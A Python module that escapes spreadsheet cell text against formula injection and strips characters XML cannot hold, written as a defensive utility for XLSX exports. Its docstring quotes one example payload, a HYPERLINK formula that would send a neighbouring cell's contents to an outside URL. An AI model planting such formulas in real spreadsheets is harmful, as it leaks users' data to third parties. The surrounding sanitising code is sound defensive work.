"""The text of a spreadsheet cell, safe to open: never a formula, never a character XML cannot hold.

Two things go wrong when a task's title or a unit head's result is written into an XLSX as it is typed:

* **Formula injection** (OWASP, "CSV Injection"): a text starting with ``=``, ``+``, ``-`` or ``@`` (or a
  tab or carriage return, which some readers skip before looking) is taken for a formula, so
  ``=HYPERLINK("http://…?leak="&A1, "Bấm vào đây")`` in a title becomes a live link that sends the next
  cell away, and a result ``=2+2`` shows 4. OWASP's remedy: put a single quote in front, and write the
  cell as text. The full-width forms (＝ ＋ － ＠), which an IME types and some spreadsheet programs read
  as the ASCII ones, are treated alike.
* **Control characters**: XML 1.0 cannot hold U+0000–U+001F other than tab, line feed and carriage return,
  nor U+FFFE/U+FFFF; a lone surrogate (U+D800–U+DFFF, from a broken paste through the API) cannot even be
  encoded as UTF-8. openpyxl raises on the first and the writer on the second, so one such title made
  every export containing the task answer 500. Word's Shift+Enter is U+000B (vertical tab) and its page
  break U+000C: they become a line break in a multi-line cell; the other control characters, U+007F
  (DEL) and the surrogates are dropped.

A carriage return (alone or before a line feed, as Windows pastes it) becomes one line feed.
In a single-line cell (a number, a unit's name, a heading) tab, line feed and carriage return become a
space. Anything else is left exactly as it was.
"""

from __future__ import annotations

import re

# What OWASP lists, a line feed (a carriage return becomes one), and the full-width forms of the signs.
FORMULA_PREFIXES = frozenset("=+-@\t\r\n＝＋－＠")
QUOTE = "'"

# Characters XML 1.0 cannot hold, DEL, and the surrogates (which UTF-8 cannot encode alone).
_DROPPED = re.compile("[\x00-\x08\x0e-\x1f\x7f\ud800-\udfff\ufffe\uffff]")
# Word's manual line break and page break: a line break where the cell has several lines.
_BREAKS = re.compile("[\x0b\x0c]")
_LINE_ENDS = re.compile("\r\n?")
_WHITESPACE_CONTROLS = re.compile("[\t\n\r\x0b\x0c]")


def clean_text(value: str, *, multiline: bool = True) -> str:
    """``value`` without the characters a spreadsheet file cannot hold (see the module's docstring)."""
    text = _DROPPED.sub("", value)
    if multiline:
        return _BREAKS.sub("\n", _LINE_ENDS.sub("\n", text))
    return _WHITESPACE_CONTROLS.sub(" ", text)


def cell_text(value: str, *, multiline: bool = True) -> str:
    """The text to write in a cell: cleaned, and quoted when a spreadsheet would read it as a formula."""
    text = clean_text(value, multiline=multiline)
    if text and text[0] in FORMULA_PREFIXES:
        return QUOTE + text
    return text
